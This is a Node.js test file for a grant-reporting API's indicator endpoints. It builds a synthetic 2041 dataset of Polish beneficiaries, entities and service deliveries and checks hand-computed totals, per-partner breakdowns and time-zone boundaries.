'use strict';
// reports: the indicators (GET /v1/reports/indicators), the targets
// (GET/PATCH /v1/reports/targets) and the participant list
// (GET /v1/reports/participants.csv), on a dataset this file builds itself
// in 2041, a year no other test file uses. Every report below is asked for
// a period inside 2041 only, so that whatever other test files write at the
// same time (in other years) cannot move a number. Every expected number is
// a literal worked out by hand from the dataset below.

const { test, before, after } = require('node:test');
const assert = require('node:assert/strict');
const crypto = require('node:crypto');
const { startServer } = require('./lib/server');
const { api, expectProblem, firstErrorField } = require('./lib/http');
const contract = require('./lib/contract');
const { newUser } = require('./lib/users');

const TIMESTAMP = /^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\.[0-9]{1,6})?(Z|\+00:00)$/;
const KINDS = ['advisory', 'legal', 'financial', 'marketing', 'information', 'training', 'seminar'];
const EDUCATION = ['none', 'primary', 'lower_secondary', 'upper_secondary', 'post_secondary', 'tertiary', 'unknown'];
const LABOUR = ['employed', 'unemployed', 'long_term_unemployed', 'inactive', 'self_employed', 'unknown'];
const POWIATS = ['1601', '1602', '1603', '1604', '1605', '1606', '1607', '1608', '1609', '1610', '1611', '1661'];
const CSV_HEADER = 'beneficiary_id,partner,first_name,last_name,pesel,gender,age_at_support_start,education,'
  + 'labour_status,teryt_gmina,gmina,powiat,street,postal_code,email,phone,es_entity,support_start,'
  + 'support_end,service_kind,hours';
const CSV_COLUMNS = CSV_HEADER.split(',');

const YEAR = 'from=2041-01-01&to=2041-12-31';
const APRIL = 'from=2041-04-01&to=2041-04-30';
// The high-poverty gmina of the dataset: set by this file (no other test
// touches it) and set back at the end.
const HIGH_POVERTY = '1611073';

// ---------------------------------------------------------------------------
// The dataset (keys E*, B*, D* are this file's names for the records).

// The region's gminas the dataset lives in, with the names the CSV shows.
const GMINAS = {
  1604013: { name: 'Byczyna', powiat: 'kluczborski' },
  1611073: { name: 'Zawadzkie', powiat: 'strzelecki' }, // high-poverty (set by this file)
  1661011: { name: 'Opole', powiat: 'Opole' }, // the city powiat 1661
  1607053: { name: 'Nysa', powiat: 'nyski' },
  1601011: { name: 'Brzeg', powiat: 'brzeski' },
  1602033: { name: 'Głubczyce', powiat: 'głubczycki' },
  1603011: { name: 'Kędzierzyn-Koźle', powiat: 'kędzierzyńsko-kozielski' },
};

const ENTITIES = {
  E1: { legal_form: 'social_cooperative', teryt_gmina: '1604013' },
  E2: { legal_form: 'social_cooperative', teryt_gmina: '1611073' },
  E3: { legal_form: 'foundation', teryt_gmina: '1607053' },
  E4: { legal_form: 'association', teryt_gmina: '1661011' },
  // named only by D12, a delivery that is deleted; then deleted itself
  E5: { legal_form: 'social_cooperative', teryt_gmina: '1604013' },
  // named by the live deliveries D8 (chorzow) and D14 (byczyna); deleted: the
  // deliveries still count, the entity does not
  E6: { legal_form: 'cooperative', teryt_gmina: '1611073' },
  // named only by deliveries just outside 2041 in Warsaw time (D17, D18)
  E7: { legal_form: 'social_cooperative', teryt_gmina: '1604013' },
  // only B4's affiliation: an affiliation is no support
  E8: { legal_form: 'social_cooperative', teryt_gmina: '1607053' },
};

// Beneficiaries. pesel: true gives one a PESEL of its birth date.
const PEOPLE = {
  B1: {
    partner: 'byczyna', first_name: 'Anna', last_name: 'Kowalska, "Ania"\nII', gender: 'female', birth_date: '1980-05-15',
    pesel: true, education: 'tertiary', labour_status: 'employed', teryt_gmina: '1604013', es: 'E1',
    support_start: '2041-02-01', support_end: '2041-12-31', street: 'ul. Długa 1,\r\nm. 2',
  },
  B2: {
    partner: 'byczyna', first_name: 'Piotr', last_name: 'Nowak', gender: 'male', birth_date: '1991-04-01',
    education: 'upper_secondary', labour_status: 'unemployed', teryt_gmina: '1611073',
    support_start: null, // age in the CSV: at the first delivery of each kind (Warsaw date)
  },
  B3: {
    partner: 'byczyna', first_name: 'Ewa', last_name: 'Zielińska', gender: 'female', birth_date: '2000-01-01',
    education: null, labour_status: null, teryt_gmina: '1661011', support_start: '2041-01-15',
  },
  B4: {
    partner: 'chorzow', first_name: 'Jan', last_name: 'Lewandowski', gender: 'male', birth_date: '1975-07-20',
    pesel: true, education: 'primary', labour_status: 'long_term_unemployed', teryt_gmina: '1607053', es: 'E8',
    support_start: '2041-06-01',
  },
  B5: {
    partner: 'chorzow', first_name: 'Maria', last_name: 'Mazur', gender: 'female', birth_date: '1985-03-10',
    education: 'tertiary', labour_status: 'unemployed', teryt_gmina: '1611073', es: 'E3', support_start: '2041-01-10',
  },
  // erased after the deliveries: still counted, without names and PII
  B6: {
    partner: 'chorzow', first_name: 'Adam', last_name: 'Adamczyk', gender: 'male', birth_date: '1960-01-10',
    education: 'lower_secondary', labour_status: 'self_employed', teryt_gmina: '1604013', es: 'E4',
    support_start: '2041-03-01',
  },
  // deleted after the deliveries: counts nowhere
  B7: {
    partner: 'byczyna', first_name: 'Zofia', last_name: 'Wójcik', gender: 'female', birth_date: '1995-06-06',
    education: 'none', labour_status: 'inactive', teryt_gmina: '1601011', support_start: '2041-01-05',
  },
  // only attended: false in 2041 and a delivery of 2042 (Warsaw): counts nowhere
  B8: {
    partner: 'chorzow', first_name: 'Tomasz', last_name: 'Dąbrowski', gender: 'male', birth_date: '1970-02-02',
    education: 'post_secondary', labour_status: 'employed', teryt_gmina: '1602033', support_start: '2041-01-05',
  },
  // only the deleted delivery D12 and one of 2040 (Warsaw): counts nowhere
  B9: {
    partner: 'byczyna', first_name: 'Katarzyna', last_name: 'Kamińska', gender: 'female', birth_date: '1988-08-08',
    education: 'none', labour_status: 'inactive', teryt_gmina: '1603011', support_start: '2041-01-05',
  },
};

// Deliveries: by = the partner that gives it (made by that partner's
// coordinator), att = attendance as finally PUT. Warsaw times in comments.
const DELIVERIES = {
  D1: { by: 'byczyna', kind: 'advisory', es: 'E1', at: '2041-01-20T09:00:00Z', hours: 2.5, att: { B1: true, B3: true } },
  D2: { by: 'byczyna', kind: 'legal', es: 'E2', at: '2041-02-05T10:00:00Z', hours: 1.25, att: { B2: true, B3: true } },
  D3: { by: 'byczyna', kind: 'training', at: '2041-02-10T08:00:00Z', hours: 6, att: { B1: true, B2: true, B5: true, B8: false } },
  // 2041-04-01 00:30 CEST (summer time began on Sunday 2041-03-31)
  D4: { by: 'byczyna', kind: 'advisory', es: 'E2', at: '2041-03-31T22:30:00Z', hours: 1.5, att: { B2: true } },
  // B4 is added and then removed again (DELETE of the attendance row)
  D5: { by: 'chorzow', kind: 'seminar', es: 'E4', at: '2041-04-15T12:00:00Z', hours: 4, guests: 12, att: { B1: true, B5: true, B6: true } },
  // 2041-04-30 23:59:59 CEST
  D6: { by: 'byczyna', kind: 'seminar', at: '2041-04-30T21:59:59Z', hours: 2, guests: 5, att: { B1: true, B7: true, B8: false } },
  // 2041-03-31 23:59:59 CEST
  D7: { by: 'chorzow', kind: 'information', es: 'E3', at: '2041-03-31T21:59:59Z', hours: 0.75, att: { B4: true } },
  // 2041-05-01 00:00 CEST
  D8: { by: 'chorzow', kind: 'marketing', es: 'E6', at: '2041-04-30T22:00:00Z', hours: 3, att: { B6: true } },
  D9: { by: 'chorzow', kind: 'financial', es: 'E3', at: '2041-06-10T09:00:00Z', hours: 2, att: { B4: true, B5: true } },
  // guests on a training are not seminar guests; B3 is PUT true, then false
  D10: { by: 'chorzow', kind: 'training', at: '2041-09-01T07:00:00Z', hours: 8, guests: 3, att: { B5: true, B6: true, B3: false } },
  // a seminar of byczyna naming E4, which chorzow serves too; guests not given
  D11: { by: 'byczyna', kind: 'seminar', es: 'E4', at: '2041-11-20T10:00:00Z', hours: 1.5, att: { B2: true, B5: true } },
  // deleted after the attendance
  D12: { by: 'byczyna', kind: 'legal', es: 'E5', at: '2041-05-05T09:00:00Z', hours: 2, att: { B9: true, B1: true } },
  D13: { by: 'chorzow', kind: 'advisory', es: 'E4', at: '2041-07-07T08:00:00Z', hours: 1, att: { B4: false, B6: true } },
  D14: { by: 'byczyna', kind: 'marketing', es: 'E6', at: '2041-08-08T08:00:00Z', hours: 2, att: { B7: true } },
  // 2041-01-01 00:00 CET: the first second of the year
  D15: { by: 'chorzow', kind: 'information', es: 'E4', at: '2040-12-31T23:00:00Z', hours: 0.5, att: { B4: true } },
  // 2041-12-31 23:59:59 CET: the last second of the year
  D16: { by: 'byczyna', kind: 'training', at: '2041-12-31T22:59:59Z', hours: 1, att: { B3: true } },
  // 2040-12-31 23:59:59 CET: outside 2041
  D17: { by: 'byczyna', kind: 'advisory', es: 'E7', at: '2040-12-31T22:59:59Z', hours: 3, att: { B9: true } },
  // 2042-01-01 00:00 CET: outside 2041
  D18: { by: 'chorzow', kind: 'seminar', es: 'E7', at: '2041-12-31T23:00:00Z', hours: 2, guests: 100, att: { B8: true } },
};

// ---------------------------------------------------------------------------

let server;
let admin;
let auditor;
let integration;
const coordinator = {};
const advisor = {};
let everyone; // [[label, user]] of every role
const T = `r41${crypto.randomBytes(4).toString('hex')}`; // this run's tag
const services = {}; // kind -> service record (made by this file)
const E = {}; // key -> ES entity record
const B = {}; // key -> beneficiary record (as its coordinator saw it at creation), _sent: the body sent
const D = {}; // key -> delivery record
let gminaBefore; // Zawadzkie's high_poverty flag before this file set it
let targetsBefore; // the targets before this file touched them
let snapshotBeforeDeletes; // the raw answer of the 2041 indicators before the deletes

// A route of the setup (es-entities, deliveries, ...), not what these tests
// are about: checked against the contract when the document has it.
function setup(method, path, opts = {}) {
  const check = typeof contract.documents === 'function' ? contract.documents(method, path) : true;
  return api(server, method, path, { ...opts, check });
}

async function made(who, resource, body) {
  const res = await setup('POST', `/v1/${resource}`, { headers: who.headers, body });
  assert.equal(res.status, 201, `POST /v1/${resource} ${JSON.stringify(body).slice(0, 300)}: ${res.status} ${res.text}`);
  return res.json;
}

async function etag(who, path) {
  const res = await setup('GET', path, { headers: who.headers });
  assert.equal(res.status, 200, `GET ${path}: ${res.status} ${res.text}`);
  return res.headers.get('etag');
}

async function deleted(who, path) {
  const res = await setup('DELETE', path, { headers: { ...who.headers, 'If-Match': await etag(who, path) } });
  assert.equal(res.status, 204, `DELETE ${path}: ${res.status} ${res.text}`);
}

async function attend(who, delivery, beneficiary, attended) {
  const res = await setup('PUT', `/v1/deliveries/${delivery.id}/participants/${beneficiary.id}`, {
    headers: who.headers, body: { attended },
  });
  assert.ok(res.status === 201 || res.status === 200, `PUT attendance: ${res.status} ${res.text}`);
}

const PESEL_WEIGHTS = [1, 3, 7, 9, 1, 3, 7, 9, 1, 3];
/* A PESEL of date 'YYYY-MM-DD' (1900-2099) with a random serial. */
function peselOf(date, male) {
  const [y, m, d] = date.split('-').map(Number);
  const month = m + (y >= 2000 ? 20 : 0);
  const serial = String(crypto.randomInt(1000)).padStart(3, '0');
  const sex = String(2 * crypto.randomInt(5) + (male ? 1 : 0));
  const first10 = `${String(y % 100).padStart(2, '0')}${String(month).padStart(2, '0')}${String(d).padStart(2, '0')}${serial}${sex}`;
  const sum = PESEL_WEIGHTS.reduce((acc, w, i) => acc + w * Number(first10[i]), 0);
  return first10 + String((10 - (sum % 10)) % 10);
}

function personBody(key) {
  const p = PEOPLE[key];
  const n = key.toLowerCase();
  const body = {
    first_name: `${p.first_name} ${T}`,
    last_name: p.last_name,
    gender: p.gender,
    birth_date: p.birth_date,
    education: p.education,
    labour_status: p.labour_status,
    teryt_gmina: p.teryt_gmina,
    consent_on: '2026-01-15',
    support_start: p.support_start,
    support_end: p.support_end || null,
    street: p.street || `ul. Testowa ${n.slice(1)}`,
    postal_code: `46-2${n.slice(1).padStart(2, '0')}`,
    email: `${n}.${T}@example.org`,
    phone: `+48 600 000 ${n.slice(1).padStart(3, '0')}`,
    es_entity_id: p.es ? E[p.es].id : null,
  };
  if (p.pesel) body.pesel = peselOf(p.birth_date, p.gender === 'male');
  return body;
}

async function newPerson(key) {
  const who = coordinator[PEOPLE[key].partner];
  for (let attempt = 0; attempt < 5; attempt++) {
    const body = personBody(key);
    const res = await setup('POST', '/v1/beneficiaries', { headers: who.headers, body });
    if (res.status === 409 && body.pesel) continue; // a PESEL another record took: another serial
    assert.equal(res.status, 201, `POST /v1/beneficiaries ${key}: ${res.status} ${res.text}`);
    return { ...res.json, _sent: body };
  }
  throw new Error(`five PESELs in a row were taken for ${key}`);
}

/* Deletes every live delivery started in 2041 (Warsaw): what an aborted
 * earlier run of this file on the same database may have left. */
async function clearYear() {
  for (let round = 0; round < 50; round++) {
    const res = await setup('GET', `/v1/deliveries?${YEAR}&limit=200`, { headers: admin.headers });
    assert.equal(res.status, 200, res.text);
    if (res.json.items.length === 0) return;
    for (const d of res.json.items) await deleted(admin, `/v1/deliveries/${d.id}`);
  }
}

async function setHighPoverty(teryt, value) {
  const path = `/v1/gminas/${teryt}`;
  const res = await setup('PATCH', path, {
    headers: { ...admin.headers, 'Content-Type': 'application/merge-patch+json', 'If-Match': await etag(admin, path) },
    body: { high_poverty: value },
  });
  assert.equal(res.status, 200, `PATCH ${path}: ${res.status} ${res.text}`);
}

async function targetsNow() {
  const res = await setup('GET', '/v1/reports/targets', { headers: admin.headers });
  assert.equal(res.status, 200, res.text);
  return res;
}

/* PATCH /v1/reports/targets as admin with the current ETag. */
async function setTargets(body) {
  const cur = await targetsNow();
  const res = await setup('PATCH', '/v1/reports/targets', {
    headers: { ...admin.headers, 'Content-Type': 'application/merge-patch+json', 'If-Match': cur.headers.get('etag') },
    body,
  });
  assert.equal(res.status, 200, `PATCH /v1/reports/targets ${JSON.stringify(body)}: ${res.status} ${res.text}`);
  return res;
}

before(async () => {
  server = await startServer();
  const [a, au, ig, cb, cc, ab, ac] = await Promise.all([
    newUser(server, { role: 'admin', partner: 'byczyna', prefix: 'radm' }),
    newUser(server, { role: 'auditor', partner: 'chorzow', prefix: 'raud' }),
    newUser(server, { role: 'integration', partner: 'byczyna', prefix: 'rint' }),
    newUser(server, { role: 'coordinator', partner: 'byczyna', prefix: 'rcob' }),
    newUser(server, { role: 'coordinator', partner: 'chorzow', prefix: 'rcoc' }),
    newUser(server, { role: 'advisor', partner: 'byczyna', prefix: 'radb' }),
    newUser(server, { role: 'advisor', partner: 'chorzow', prefix: 'radc' }),
  ]);
  admin = a;
  auditor = au;
  integration = ig;
  coordinator.byczyna = cb;
  coordinator.chorzow = cc;
  advisor.byczyna = ab;
  advisor.chorzow = ac;
  everyone = [
    ['admin', a], ['auditor', au], ['integration', ig], ['coordinator of byczyna', cb],
    ['coordinator of chorzow', cc], ['advisor of byczyna', ab], ['advisor of chorzow', ac],
  ];

  await clearYear();
  // The targets the numbers below assume (50 ES entities, as seeded).
  targetsBefore = (await targetsNow()).json;
  if (targetsBefore.es_entities_supported !== 50) await setTargets({ es_entities_supported: 50 });

  // The gminas of the counted people must not be high-poverty but Zawadzkie.
  for (const teryt of ['1604013', '1661011', '1607053']) {
    const g = await setup('GET', `/v1/gminas/${teryt}`);
    assert.equal(g.status, 200, g.text);
    assert.equal(g.json.high_poverty, false, `precondition: gmina ${teryt} is not high-poverty (no test may set it)`);
  }
  const z = await setup('GET', `/v1/gminas/${HIGH_POVERTY}`);
  assert.equal(z.status, 200, z.text);
  gminaBefore = z.json.high_poverty;
  if (!gminaBefore) await setHighPoverty(HIGH_POVERTY, true);

  // One service of each kind of this file's own (a seeded one could be
  // deactivated by another test file).
  for (const kind of KINDS) {
    services[kind] = await made(admin, 'services', { code: `${T}-${kind}`, name: `Usługa ${kind} ${T}`, kind });
  }
  for (const [key, e] of Object.entries(ENTITIES)) {
    E[key] = await made(admin, 'es-entities', { name: `Podmiot ${key} ${T}`, ...e });
  }
  for (const key of Object.keys(PEOPLE)) B[key] = await newPerson(key);

  for (const [key, d] of Object.entries(DELIVERIES)) {
    const body = { service_id: services[d.kind].id, started_at: d.at, hours: d.hours, topic: `${key} ${T}` };
    if (d.es) body.es_entity_id = E[d.es].id;
    if (d.guests !== undefined) body.guests = d.guests;
    D[key] = await made(coordinator[d.by], 'deliveries', body);
    assert.equal(D[key].partner, d.by);
  }
  for (const [key, d] of Object.entries(DELIVERIES)) {
    const who = coordinator[d.by];
    for (const [b, attended] of Object.entries(d.att)) {
      // B3 on D10 attended at first, then is set to false
      await attend(who, D[key], B[b], key === 'D10' && b === 'B3' ? true : attended);
    }
  }
  await attend(coordinator.chorzow, D.D10, B.B3, false);
  // B4 on D5: added, then removed
  await attend(coordinator.chorzow, D.D5, B.B4, true);
  const rm = await setup('DELETE', `/v1/deliveries/${D.D5.id}/participants/${B.B4.id}`, { headers: coordinator.chorzow.headers });
  assert.equal(rm.status, 204, rm.text);

  // The year before anything is deleted: asserted by a test below, which
  // checks this answer against the contract (a failing check here would
  // fail every test of the file).
  snapshotBeforeDeletes = await api(server, 'GET', `/v1/reports/indicators?${YEAR}`, { headers: admin.headers, check: false });

  await deleted(coordinator.byczyna, `/v1/deliveries/${D.D12.id}`);
  await deleted(coordinator.byczyna, `/v1/beneficiaries/${B.B7.id}`);
  await deleted(admin, `/v1/es-entities/${E.E5.id}`);
  await deleted(admin, `/v1/es-entities/${E.E6.id}`);
  const path = `/v1/beneficiaries/${B.B6.id}/erasure`;
  const erased = await setup('POST', path, {
    headers: { ...admin.headers, 'If-Match': await etag(admin, `/v1/beneficiaries/${B.B6.id}`) },
  });
  assert.equal(erased.status, 200, `POST ${path}: ${erased.status} ${erased.text}`);
  assert.equal(erased.json.erased, true);
});

after(async () => {
  if (!server) return;
  try {
    if (admin) {
      // Leave the shared state as it was: the targets, Zawadzkie's flag, and no deliveries in 2041.
      if (targetsBefore) {
        const now = (await targetsNow()).json;
        const keys = ['es_entities_supported', 'advisory_hours', 'training_participants', 'seminars'];
        if (keys.some((key) => now[key] !== targetsBefore[key])) {
          await setTargets(Object.fromEntries(keys.map((key) => [key, targetsBefore[key]])));
        }
      }
      if (gminaBefore === false) await setHighPoverty(HIGH_POVERTY, false);
      await clearYear();
      for (const d of Object.values(D)) await deleted(admin, `/v1/deliveries/${d.id}`).catch(() => {});
      for (const b of Object.values(B)) await deleted(admin, `/v1/beneficiaries/${b.id}`).catch(() => {});
      for (const e of Object.values(E)) await deleted(admin, `/v1/es-entities/${e.id}`).catch(() => {});
      for (const s of Object.values(services)) await deleted(admin, `/v1/services/${s.id}`).catch(() => {});
    }
  } finally {
    await server.stop();
  }
});

// ---------------------------------------------------------------------------
// Expected documents.

/* One by_service_kind entry. */
function k(deliveries, hours, entities, participants) {
  return { deliveries, hours, entities, participants };
}
const K0 = k(0, 0, 0, 0);

/* A full document from the parts that are not zero. */
function doc({ from = null, to = null, partner = null, es, kinds, ben, seminars }) {
  const byKind = {};
  for (const kind of KINDS) byKind[kind] = kinds[kind] || K0;
  const fill = (keys, given) => Object.fromEntries(keys.map((key) => [key, given[key] || 0]));
  return {
    period: { from, to, partner },
    es_entities: es,
    by_service_kind: byKind,
    beneficiaries: {
      total: ben.total,
      by_gender: fill(['female', 'male'], ben.gender),
      by_education: fill(EDUCATION, ben.education),
      by_labour_status: fill(LABOUR, ben.labour),
      by_partner: fill(['byczyna', 'chorzow'], ben.partner),
      by_powiat: fill(POWIATS, ben.powiat),
      high_poverty_gminas: ben.high_poverty,
    },
    seminars,
  };
}

// 2041, every partner, after the deletes and the erasure. Deliveries in
// scope: D1-D11, D13-D16 (15; D12 deleted, D17 and D18 outside 2041 in
// Warsaw). Counted people: B1-B6 (B6 erased still counts; B7 deleted; B8
// only attended: false in 2041; B9 only D12 and D17).
const EXPECT_YEAR = doc({
  from: '2041-01-01',
  to: '2041-12-31',
  // E1 (D1), E2 (D2, D4), E3 (D7, D9), E4 (D5, D11, D13, D15); E6 is deleted (its deliveries D8, D14 count, it does
  // not), E5 only by the deleted D12, E7 only outside 2041. Cooperatives: E1,
  // E2. 4 / 50 = 0.08.
  es: { supported: 4, social_cooperatives: 2, target: 50, share_of_target: 0.08 },
  kinds: {
    advisory: k(3, 5, 3, 4), // D1 2.5 + D4 1.5 + D13 1; E1, E2, E4; B1, B3 (D1), B2 (D4), B6 (D13; B4 false)
    legal: k(1, 1.25, 1, 2), // D2; E2; B2, B3 (D12 deleted)
    financial: k(1, 2, 1, 2), // D9; E3; B4, B5
    marketing: k(2, 5, 0, 1), // D8 3 + D14 2; E6 deleted; B6 (B7 deleted)
    information: k(2, 1.25, 2, 1), // D7 0.75 + D15 0.5; E3, E4; B4 twice
    training: k(3, 15, 0, 5), // D3 6 + D10 8 + D16 1; no entity; B1, B2, B5 (D3), B5, B6 (D10; B3 false), B3 (D16)
    seminar: k(3, 7.5, 1, 4), // D5 4 + D6 2 + D11 1.5; E4 (D5, D11); B1, B5, B6 (D5), B1 (D6), B2, B5 (D11)
  },
  ben: {
    total: 6,
    gender: { female: 3, male: 3 }, // B1 B3 B5 / B2 B4 B6
    education: { primary: 1, lower_secondary: 1, upper_secondary: 1, tertiary: 2, unknown: 1 }, // B4 / B6 / B2 / B1 B5 / B3
    labour: { employed: 1, unemployed: 2, long_term_unemployed: 1, self_employed: 1, unknown: 1 }, // B1 / B2 B5 / B4 / B6 / B3
    partner: { byczyna: 3, chorzow: 3 }, // B1 B2 B3 / B4 B5 B6
    powiat: { 1604: 2, 1611: 2, 1661: 1, 1607: 1 }, // B1 B6 / B2 B5 / B3 / B4
    high_poverty: 2, // B2, B5 in Zawadzkie
  },
  // D5, D6, D11; attendance rows true of live people: D5 B1 B5 B6 (B4's row
  // deleted), D6 B1 (B7 deleted, B8 false), D11 B2 B5 = 6; guests 12 + 5 + 0 (D11 none).
  seminars: { count: 3, beneficiary_attendees: 6, guests: 17 },
});

// 2041, deliveries given by byczyna: D1, D2, D3, D4, D6, D11, D14, D16 (8).
const EXPECT_BYCZYNA = doc({
  from: '2041-01-01',
  to: '2041-12-31',
  partner: 'byczyna',
  // E1 (D1), E2 (D2, D4), E4 (D11); E6 (D14) deleted. 3 / 50.
  es: { supported: 3, social_cooperatives: 2, target: 50, share_of_target: 0.06 },
  kinds: {
    advisory: k(2, 4, 2, 3), // D1 2.5 + D4 1.5; E1, E2; B1, B3, B2
    legal: k(1, 1.25, 1, 2), // D2; E2; B2, B3
    marketing: k(1, 2, 0, 0), // D14; E6 deleted; B7 deleted
    training: k(2, 7, 0, 4), // D3 6 + D16 1; B1, B2, B5, B3
    seminar: k(2, 3.5, 1, 3), // D6 2 + D11 1.5; E4; B1 (D6), B2, B5 (D11)
  },
  ben: {
    total: 4, // B1, B2, B3 and chorzow's B5 (D3, D11)
    gender: { female: 3, male: 1 }, // B1 B3 B5 / B2
    education: { upper_secondary: 1, tertiary: 2, unknown: 1 }, // B2 / B1 B5 / B3
    labour: { employed: 1, unemployed: 2, unknown: 1 }, // B1 / B2 B5 / B3
    partner: { byczyna: 3, chorzow: 1 }, // the people's own partner: B1 B2 B3 / B5
    powiat: { 1604: 1, 1611: 2, 1661: 1 }, // B1 / B2 B5 / B3
    high_poverty: 2, // B2, B5
  },
  seminars: { count: 2, beneficiary_attendees: 3, guests: 5 }, // D6 (B1), D11 (B2, B5); 5 + 0
});

// 2041, deliveries given by chorzow: D5, D7, D8, D9, D10, D13, D15 (7).
const EXPECT_CHORZOW = doc({
  from: '2041-01-01',
  to: '2041-12-31',
  partner: 'chorzow',
  // E3 (D7, D9), E4 (D5, D13, D15); E6 (D8) deleted. No cooperative. 2 / 50.
  es: { supported: 2, social_cooperatives: 0, target: 50, share_of_target: 0.04 },
  kinds: {
    advisory: k(1, 1, 1, 1), // D13; E4; B6 (B4 false)
    financial: k(1, 2, 1, 2), // D9; E3; B4, B5
    marketing: k(1, 3, 0, 1), // D8; E6 deleted; B6
    information: k(2, 1.25, 2, 1), // D7 0.75 + D15 0.5; E3, E4; B4
    training: k(1, 8, 0, 2), // D10; B5, B6 (B3 false)
    seminar: k(1, 4, 1, 3), // D5; E4; B1, B5, B6
  },
  ben: {
    total: 4, // B4, B5, B6 and byczyna's B1 (D5)
    gender: { female: 2, male: 2 }, // B1 B5 / B4 B6
    education: { primary: 1, lower_secondary: 1, tertiary: 2 }, // B4 / B6 / B1 B5
    labour: { employed: 1, unemployed: 1, long_term_unemployed: 1, self_employed: 1 }, // B1 / B5 / B4 / B6
    partner: { byczyna: 1, chorzow: 3 }, // B1 / B4 B5 B6
    powiat: { 1604: 2, 1611: 1, 1607: 1 }, // B1 B6 / B5 / B4
    high_poverty: 1, // B5
  },
  seminars: { count: 1, beneficiary_attendees: 3, guests: 12 }, // D5: B1, B5, B6; 12 guests
});

// April 2041 (Warsaw days 1-30): D4 (2041-03-31T22:30Z = 1 April 00:30), D5,
// D6 (2041-04-30T21:59:59Z = 30 April 23:59:59); not D7 (31 March 23:59:59)
// nor D8 (1 May 00:00).
const EXPECT_APRIL = doc({
  from: '2041-04-01',
  to: '2041-04-30',
  es: { supported: 2, social_cooperatives: 1, target: 50, share_of_target: 0.04 }, // E2 (D4), E4 (D5)
  kinds: {
    advisory: k(1, 1.5, 1, 1), // D4; E2; B2
    seminar: k(2, 6, 1, 3), // D5 4 + D6 2; E4; B1, B5, B6
  },
  ben: {
    total: 4, // B1, B2, B5, B6
    gender: { female: 2, male: 2 },
    education: { upper_secondary: 1, tertiary: 2, lower_secondary: 1 }, // B2 / B1 B5 / B6
    labour: { employed: 1, unemployed: 2, self_employed: 1 }, // B1 / B2 B5 / B6
    partner: { byczyna: 2, chorzow: 2 },
    powiat: { 1604: 2, 1611: 2 }, // B1 B6 / B2 B5
    high_poverty: 2,
  },
  seminars: { count: 2, beneficiary_attendees: 4, guests: 17 }, // D5 B1 B5 B6, D6 B1; 12 + 5
});

// April 2041, byczyna: D4 and D6.
const EXPECT_APRIL_BYCZYNA = doc({
  from: '2041-04-01',
  to: '2041-04-30',
  partner: 'byczyna',
  es: { supported: 1, social_cooperatives: 1, target: 50, share_of_target: 0.02 }, // E2 (D4)
  kinds: {
    advisory: k(1, 1.5, 1, 1), // D4; E2; B2
    seminar: k(1, 2, 0, 1), // D6; no entity; B1 (B7 deleted, B8 false)
  },
  ben: {
    total: 2, // B1, B2
    gender: { female: 1, male: 1 },
    education: { upper_secondary: 1, tertiary: 1 },
    labour: { employed: 1, unemployed: 1 },
    partner: { byczyna: 2 },
    powiat: { 1604: 1, 1611: 1 },
    high_poverty: 1, // B2
  },
  seminars: { count: 1, beneficiary_attendees: 1, guests: 5 },
});

// ---------------------------------------------------------------------------

function get(path, who = admin, opts = {}) {
  return api(server, 'GET', path, { headers: who ? who.headers : {}, ...opts });
}

async function indicators(query, who = admin) {
  const res = await get(`/v1/reports/indicators?${query}`, who);
  assert.equal(res.status, 200, `GET /v1/reports/indicators?${query}: ${res.status} ${res.text}`);
  return res.json;
}

function assertIndicatorShape(d) {
  assert.deepEqual(Object.keys(d).sort(), ['beneficiaries', 'by_service_kind', 'es_entities', 'period', 'seminars']);
  assert.deepEqual(Object.keys(d.by_service_kind).sort(), [...KINDS].sort(), 'every service kind is listed');
  assert.deepEqual(Object.keys(d.beneficiaries.by_education).sort(), [...EDUCATION].sort());
  assert.deepEqual(Object.keys(d.beneficiaries.by_labour_status).sort(), [...LABOUR].sort());
  assert.deepEqual(Object.keys(d.beneficiaries.by_powiat).sort(), POWIATS, 'all 12 powiats are listed');
}

test('GET /v1/reports/indicators for 2041 counts every indicator of the dataset', async () => {
  const res = await get(`/v1/reports/indicators?${YEAR}`);
  assert.equal(res.status, 200, res.text);
  assert.equal(res.headers.get('content-type').split(';')[0], 'application/json');
  const d = res.json;
  assertIndicatorShape(d);
  assert.deepEqual(d, EXPECT_YEAR);
});

test('GET /v1/reports/indicators?partner=byczyna counts only the deliveries byczyna gave', async () => {
  assert.deepEqual(await indicators(`${YEAR}&partner=byczyna`), EXPECT_BYCZYNA);
});

test('GET /v1/reports/indicators?partner=chorzow counts only the deliveries chorzow gave', async () => {
  assert.deepEqual(await indicators(`${YEAR}&partner=chorzow`), EXPECT_CHORZOW);
});

test('per-partner deliveries, hours, seminars, attendees and guests add up to the total; distinct people and entities do not', async () => {
  const [all, byc, cho] = await Promise.all([indicators(YEAR), indicators(`${YEAR}&partner=byczyna`), indicators(`${YEAR}&partner=chorzow`)]);
  const cents = (x) => Math.round(x * 100);
  for (const kind of KINDS) {
    assert.equal(byc.by_service_kind[kind].deliveries + cho.by_service_kind[kind].deliveries, all.by_service_kind[kind].deliveries, kind);
    assert.equal(cents(byc.by_service_kind[kind].hours) + cents(cho.by_service_kind[kind].hours), cents(all.by_service_kind[kind].hours), kind);
  }
  for (const f of ['count', 'beneficiary_attendees', 'guests']) {
    assert.equal(byc.seminars[f] + cho.seminars[f], all.seminars[f], `seminars.${f}`);
  }
  // Distinct counts do not add up: a person or an entity served by both
  // partners counts once in the total and once in each partner's report.
  // B1 (D1 byczyna, D5 chorzow) and B5 (D3 byczyna, D9 chorzow): 4 + 4 people, 6 in all.
  assert.equal(byc.beneficiaries.total + cho.beneficiaries.total, 8);
  assert.equal(all.beneficiaries.total, 6);
  // B5 at trainings of both (D3, D10): 4 + 2, 5 in all.
  assert.equal(byc.by_service_kind.training.participants + cho.by_service_kind.training.participants, 6);
  assert.equal(all.by_service_kind.training.participants, 5);
  // B1 and B5 at seminars of both (D6/D11, D5): 3 + 3, 4 in all.
  assert.equal(byc.by_service_kind.seminar.participants + cho.by_service_kind.seminar.participants, 6);
  assert.equal(all.by_service_kind.seminar.participants, 4);
  // E4 served by both (D11 byczyna; D5, D13, D15 chorzow): 3 + 2 entities, 4 in all; seminar entities 1 + 1, 1 in all.
  assert.equal(byc.es_entities.supported + cho.es_entities.supported, 5);
  assert.equal(all.es_entities.supported, 4);
  assert.equal(byc.by_service_kind.seminar.entities + cho.by_service_kind.seminar.entities, 2);
  assert.equal(all.by_service_kind.seminar.entities, 1);
});

